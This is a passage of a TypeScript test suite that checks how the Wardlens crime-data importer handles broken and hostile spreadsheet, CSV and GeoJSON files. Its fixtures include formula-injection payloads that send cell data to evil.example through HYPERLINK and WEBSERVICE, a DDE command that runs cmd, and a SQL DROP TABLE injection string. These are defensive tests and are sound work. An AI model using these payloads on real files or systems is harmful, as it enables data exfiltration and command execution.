    bytes: () => {
      const parts = xlsxParts({ sheets: [{ name: 'Burglary', rows: acrossSheet(months(201701, 3)).rows }] });
      return zip(
        parts.map((p) =>
          p.name === 'xl/worksheets/sheet1.xml'
            ? { ...p, data: p.data!.subarray(0, Math.floor(p.data!.length * 0.6)) }
            : p,
        ),
      );
    },
    options: MAPPED_ACROSS,
    expect: refused('bad-input', /damaged: its part xl\/worksheets\/sheet1\.xml/),
  },
  // Boundaries.
  {
    id: 'geojson-self-intersecting',
    file: 'harrow wards bow tie.geojson',
    what: 'ward boundaries where one polygon crosses itself (a bow tie)',
    bytes: () =>
      Buffer.from(
        featureCollection([
          { code: 'E05000285', name: 'Belmont', rings: [bowTie(-0.318, 51.61, 0.005)] },
          { code: 'E05000286', name: 'Canons', rings: [circle(-0.297, 51.612, 0.008, 40)] },
        ]),
      ),
    expect: {
      outcome: 'imported',
      check: (ws, r) => {
        boundaryCheck(ws, r, 2);
        // Kept, but named in a warning where the ring crosses: at the bow tie's centre.
        const warning = r.warnings.find((w) => /cross(es)? or touches itself/.test(w));
        expect(warning, r.warnings.join('\n')).toMatch(/^1 feature\(s\) .*feature 1 \(E05000285\) near 51\.61000, -0\.31800/);
      },
    },
  },
  {
    id: 'geojson-enormous-polygon',
    file: 'harrow ward enormous.geojson',
    what: 'a ward polygon of 1,000,000 vertices (a 40 MB file)',
    bytes: () =>
      Buffer.from(
        featureCollection([
          { code: 'E05000287', name: 'Edgware', rings: [circle(-0.275, 51.61, 0.01, 1_000_000)] },
        ]),
      ),
    seconds: 60,
    expect: { outcome: 'imported', check: (ws, r) => boundaryCheck(ws, r, 1) },
  },
  {
    id: 'geojson-world-polygon',
    file: 'harrow ward covers the world.geojson',
    what: 'a ward polygon spanning the whole globe (-180…180, -90…90)',
    bytes: () =>
      Buffer.from(
        featureCollection([
          {
            code: 'E05000288',
            name: 'Greenhill',
            rings: [
              [
                [-180, -90],
                [180, -90],
                [180, 90],
                [-180, 90],
                [-180, -90],
              ],
            ],
          },
        ]),
      ),
    // Every crime in the workspace would fall in such a ward: a coordinate outside the UK is refused.
    expect: refused(
      'bad-input',
      /feature 1 \(E05000288\): polygon 1, ring 1 has a point outside the United Kingdom \(longitude -180, latitude -90\)/,
      { row: 1, column: 'geometry' },
    ),
  },
  {
    id: 'geojson-deep-nesting',
    file: 'harrow ward deep.geojson',
    what: 'a geometry nested 100,000 arrays deep',
    bytes: () =>
      Buffer.from(
        `{"type":"FeatureCollection","features":[{"type":"Feature","properties":{"GSS_CODE":"E05000289"},"geometry":{"type":"Polygon","coordinates":${'['.repeat(100_000)}${']'.repeat(100_000)}}}]}`,
      ),
    expect: refused('bad-input', /feature 1 holds lists or objects nested more than 32 deep/, { row: 1 }),
  },
  {
    id: 'geojson-bng-typo',
    file: 'harrow wards bng typo.geojson',
    what: 'wards in British National Grid metres where one easting was keyed with an extra digit',
    bytes: () => {
      const square = (e: number, n: number): Ring => [
        [e, n],
        [e + 800, n],
        [e + 800, n + 600],
        [e, n + 600],
        [e, n],
      ];
      const typo = square(515_000, 190_000);
      typo[2] = [5_158_000, 190_600];
      return Buffer.from(
        featureCollection([
          { code: 'E05000285', name: 'Belmont', rings: [square(517_000, 190_000)] },
          { code: 'E05000286', name: 'Canons', rings: [typo] },
        ]),
      );
    },
    expect: refused(
      'bad-input',
      /feature 2 \(E05000286\): polygon 1, ring 1 has a point outside the United Kingdom \(easting 5158000, northing 190600, which is longitude/,
      { row: 2, column: 'geometry' },
    ),
  },
];

/** A police row with a place (an LSOA code), where an unquoted comma shifts cells into the LSOA column. */
function shiftedRow(): number {
  return police().findIndex((r, i) => i > 10 && r[7] !== '');
}

function latePound(): Table {
  return withCell(police(5000), 4002, 11, 'Damage to a £40 bicycle lock');
}

function quotedNewlines(): Table {
  const t = police(30);
  t[4]![6] = 'On or near Bishopsgate,\nnear "the arch"';
  t[9]![6] = 'On or near\r\nLondon Wall';
  t[12]![11] = 'Reported, then\nwithdrawn';
  return t;
}

function policeBlanks(): Table {
  const t = police(50);
  for (const i of [3, 8, 13]) t[i] = t[i]!.map((c, j) => ([0, 4, 5, 6, 7, 8, 10, 11].includes(j) ? '' : c));
  return t;
}

function formulaText(): Table {
  const t = police(20);
  t[2]![6] = '=HYPERLINK("http://evil.example/?"&A1,"x")';
  t[4]![11] = "=cmd|' /C calc'!A0";
  t[6]![6] = "On or near '); DROP TABLE incidents;--";
  return t;
}

function formulaSheet(): { rows: XCell[][]; byMonth: Record<number, number> } {
  const { rows, byMonth } = acrossSheet(months(201701, 3));
  // Formulas whose evaluation would differ from (or fail, or call out instead of) the saved value.
  const saved = (r: number, c: number, f: string) => {
    const v = rows[r]![c] as number;
    rows[r]![c] = { f, v };
  };
  saved(1, 1, '1/0');
  saved(2, 2, 'WEBSERVICE("http://evil.example/leak?"&A2)');
  saved(3, 3, 'B2*1000');
  return { rows, byMonth };
}

function boundaryCheck(ws: Workspace, r: ImportFileResult, polygons: number): void {
  expect(r.status).toBe('imported');
  expect(scalar(ws.db, 'SELECT count(*) FROM boundary_polygons')).toBe(polygons);
  expect(scalar(ws.db, 'SELECT count(*) FROM boundary_sets')).toBe(1);
}

// ---------------------------------------------------------------------------------------

afterAll(cleanupTempDirs);

let baseDb: string;
let baseCounts: Record<string, number>;
const figures: Figure[] = [];

// One workspace holding one ordinary import, closed; each case works on its own copy.
beforeAll(async () => {
  baseDb = path.join(tempDir(), 'base.wardlens.sqlite');
  const ws = openWorkspace(baseDb);
  const file = path.join(tempDir(), 'MPS ward base.csv');
  writeFileSync(file, toCsv(mpsWardTable(months(202101, 12), 9)));
  expect((await importFile(ws, file)).status).toBe('imported');
  baseCounts = tableCounts(ws.db);
  ws.close();
  expect(existsSync(workerFile)).toBe(true);
});

afterAll(() => recordFigures(figures));

let worker: Worker | null = null;
/** A second worker that reads every xlsx sheet in a stream (xlsxStream.ts), however small. */
let streamWorker: Worker | null = null;
let nextId = 1;
afterAll(async () => {
  await worker?.terminate();
  await streamWorker?.terminate();
});

/**
 * Imports one file in the import worker (the workspace opened and closed there); a run past
 * the limit is stopped by terminating the worker, and fails the case as a hang.
 */
async function importInWorker(
  dbPath: string,
  file: string,
  options: ImportOptions | undefined,
  limitMs: number,
  streamed = false,
): Promise<ImportFileResult> {
  const w = streamed
    ? (streamWorker ??= new Worker(workerFile, { env: { ...process.env, WARDLENS_XLSX_STREAM_BYTES: '0' } }))
    : (worker ??= new Worker(workerFile));
  const drop = () => {
    if (streamed) streamWorker = null;
    else worker = null;
  };
  const id = nextId++;
  let timer: NodeJS.Timeout | undefined;
  let onMessage:
    ((m: { id: number; result?: ImportFileResult; escaped?: { message: string } }) => void) | undefined;
  let onError: ((err: Error) => void) | undefined;
  try {
    return await new Promise<ImportFileResult>((resolve, reject) => {
      onMessage = (m) => {
        if (m.id !== id) return;
        if (m.result) resolve(m.result);
        else reject(new Error(`the import threw instead of reporting a failed file: ${m.escaped?.message}`));
      };
      onError = (err) => {
        drop();
        reject(new Error(`the import worker crashed: ${err.message}`));
      };
      w.on('message', onMessage);
      w.once('error', onError);
      w.postMessage({ id, dbPath, file, options });
      timer = setTimeout(() => {
        drop();
        void w.terminate();
        reject(new Error(`still running after ${limitMs / 1000} s: a hang`));
      }, limitMs);
    });
  } finally {
    clearTimeout(timer);
    if (onMessage) w.off('message', onMessage);
    if (onError) w.off('error', onError);
  }
}

describe('hostile and broken files end in a correct import or a clean refusal', () => {
  it('the corpus has at least 30 files', () => {
    expect(cases.length).toBeGreaterThanOrEqual(30);
    expect(new Set(cases.map((c) => c.id)).size).toBe(cases.length);
  });

  // Every xlsx case twice: as imports read it (SheetJS for a sheet this small), and with every
  // sheet read in a stream, as a large sheet is.
  for (const [c, streamed] of cases.flatMap((c) => [[c, false] as const, ...(/\.xls[xm]$/i.test(c.file) ? [[c, true] as const] : [])])) {
    const limit = (c.seconds ?? TIME_LIMIT_MS / 1000) * 1000;
    const test = c.known ? it.fails : it;
    test(
      `${c.id}: ${c.what} → ${c.expect.outcome === 'imported' ? 'imported, figures checked' : `refused (${c.expect.code})`}${c.known ? ' [known shortfall]' : ''}${streamed ? ' [xlsx read in a stream]' : ''}`,
      async () => {
        const figure: Figure = {
          suite: 'hostile',
          id: streamed ? `${c.id} (stream)` : c.id,
          outcome: c.expect.outcome,
          ok: false,
          note: c.known ? `known: ${c.known}` : undefined,
        };
        figures.push(figure);
        const file = path.join(tempDir(), c.file);
        writeFileSync(file, c.bytes());
        const dbPath = path.join(tempDir(), 'workspace.wardlens.sqlite');
        copyFileSync(baseDb, dbPath);
        const before = sha256File(dbPath);

        const started = Date.now();
        const r = await importInWorker(dbPath, file, c.options, limit, streamed);
        figure.seconds = (Date.now() - started) / 1000;
        expect(walExists(dbPath)).toBe(false);

        const ws = openWorkspace(dbPath);
        try {
          expect((ws.db.pragma('integrity_check') as { integrity_check: string }[])[0]!.integrity_check).toBe(
            'ok',
          );
          if (c.expect.outcome === 'refused') {
            figure.note ??= r.error?.message;
            expect(r.status, r.error?.message ?? 'no error').toBe('failed');
            expect(r.importId).toBeNull();
            expect(r.error?.code, r.error?.message).toBe(c.expect.code);
            expect(r.error?.message).toContain(c.file);
            expect(r.error?.message).toMatch(c.expect.message);
            expect(r.error?.message).not.toMatch(/Something went wrong inside Wardlens|\n\s+at /);
            if (c.expect.row !== undefined)
              expect(r.error?.details?.row, r.error?.message).toBe(c.expect.row);
            if (c.expect.column !== undefined) {
              expect(r.error?.details?.column, r.error?.message).toBe(c.expect.column);
              expect(r.error?.message).toContain(c.expect.column);
            }
            expect(tableCounts(ws.db)).toEqual(baseCounts);
          } else {
            expect(r.error?.message ?? null).toBeNull();
            expect(r.status).toBe('imported');
            c.expect.check(ws, r);
          }
        } finally {
          ws.close();
        }
        if (c.expect.outcome === 'refused')
          expect(sha256File(dbPath), 'the workspace file changed').toBe(before);
        figure.ok = true;
      },
      limit + 30_000,
    );
  }
});
